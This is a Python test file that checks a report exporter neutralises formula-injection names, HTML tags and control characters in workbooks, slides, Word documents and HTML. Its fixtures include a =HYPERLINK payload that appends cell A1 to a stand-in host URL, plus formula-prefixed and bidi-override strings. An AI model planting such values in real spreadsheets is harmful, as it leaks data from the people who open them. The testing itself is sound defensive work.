"""Names that are formulas, tags or control characters: every kind of file bears them, and no spreadsheet runs them."""

import io
import zipfile
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook
from pptx import Presentation

from data_access.brief import Brief, brief_bytes
from data_access.brief.content import Section
from data_access.brief.figures import Figure
from data_access.domain.spreadsheet import harmless
from data_access.exports.reports import Part, Report, Table
from data_access.exports.slides import report_pptx
from data_access.exports.workbooks import report_xlsx

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "+8613800000000",
    "-5折商城",
    "@SUM(1+1)",
    "＝1+2",
    "＋86",
    "－5折",
    "＠甲",
)
ODD = ("汤姆&杰瑞<旗舰店>", "a\x0bb\x00c\x1b", "东区\u202e平台", "坏\ud800字\uffff", "a\"b'c", "甲\n乙\t丙")
NAMES = (*FORMULAS, *ODD)


def part(native: Any, titles: tuple[str, ...] = ("平台", "件")) -> Part:
    rows = tuple((name, number) for number, name in enumerate(NAMES, start=10))
    return Part("k", "节\x0b", f"题{ODD[1]}", native, Table(titles, ("text", "items"), rows), said=f"说{ODD[1]}",
                notes=(ODD[1],), means=((f"义{ODD[1]}", (("a", ODD[1]), ("b", ODD[1]))),), meta=ODD[1], native=native)  # fmt: skip


def report() -> Report:
    over_time = Table(
        ("月", NAMES[0], NAMES[3]), ("day", "items", "items"), (("2021-01-01", 1, 2), ("2021-02-01", 3, 4))
    )
    line = Part("l", "", "势", "trend", over_time, native="line")
    key = Part(
        "n",
        "",
        ODD[1],
        "key",
        Table(("指标", "件"), ("text", "items"), ((ODD[1], 1),)),
        said=ODD[1],
        native="key",
    )
    parts = (key, part("bar"), part("table"), line)
    return Report("1", ODD[1], "/", "zh", ODD[1], "now", ODD[1], {}, {}, ODD[1], "d", "v", ODD[1], parts)


def books_in(file: bytes) -> list[Any]:
    """Return the workbooks inside a document."""
    with zipfile.ZipFile(io.BytesIO(file)) as document:
        inside = [name for name in document.namelist() if name.endswith(".xlsx")]
        return [load_workbook(io.BytesIO(document.read(name))) for name in inside]


def assert_no_formula(book: Any) -> set[Any]:
    """Return the values of a workbook in which no cell is a formula or becomes one where it is edited."""
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert not [
        value for value in values if isinstance(value, str) and value.startswith(tuple("=+-@＝＋－＠"))
    ]
    return values


def test_slides_show_names_as_they_are_and_their_workbooks_hold_text() -> None:
    file = report_pptx(report())
    books = books_in(file)
    held = set().union(*map(assert_no_formula, books))
    assert {harmless(name) for name in NAMES} <= held
    slides = Presentation(io.BytesIO(file)).slides
    charts = [shape.chart for slide in slides for shape in slide.shapes if shape.has_chart]
    assert len(charts) == len(books) == 2
    assert set(FORMULAS) | {"汤姆&杰瑞<旗舰店>", "abc"} <= set(charts[0].plots[0].categories)
    assert [series.name for series in charts[1].plots[0].series] == [NAMES[0], NAMES[3]]
    tables = [shape.table for slide in slides for shape in slide.shapes if shape.has_table]
    told = {row.cells[0].text for table in tables for row in table.rows}
    assert {"abc", "东区\u202e平台", "坏字"} <= told
    assert "_x00" not in "".join(
        shape.text_frame.text for one in slides for shape in one.shapes if shape.has_text_frame
    )


@pytest.mark.parametrize("form", ["docx", "html"])
def test_bulletins_bear_any_name(form: str) -> None:
    figure = Figure(ODD[1], "http://here/?a=\x0b", "complaints", 1.0)
    said = ((f"说{ODD[1]}", figure), *((name,) for name in NAMES))
    section = Section(ODD[1], (said,), (part("bar"), part("table")))
    file = brief_bytes(Brief(ODD[1], ODD[1], ODD[1], ODD[1], "zh", ODD[1], (section,)), form)
    if form == "html":
        assert "<旗舰店>" not in file.decode("utf-8")
        return
    (book,) = books_in(file)
    assert {harmless(name) for name in NAMES} <= assert_no_formula(book)
    words = "".join(paragraph.text for paragraph in Document(io.BytesIO(file)).paragraphs)
    assert all(plain in words for plain in (FORMULAS[0], "abc", "坏字", "汤姆&杰瑞<旗舰店>"))


def test_a_workbook_bears_them_too() -> None:
    held = assert_no_formula(load_workbook(io.BytesIO(report_xlsx(report()))))
    assert {harmless(name) for name in NAMES} <= held
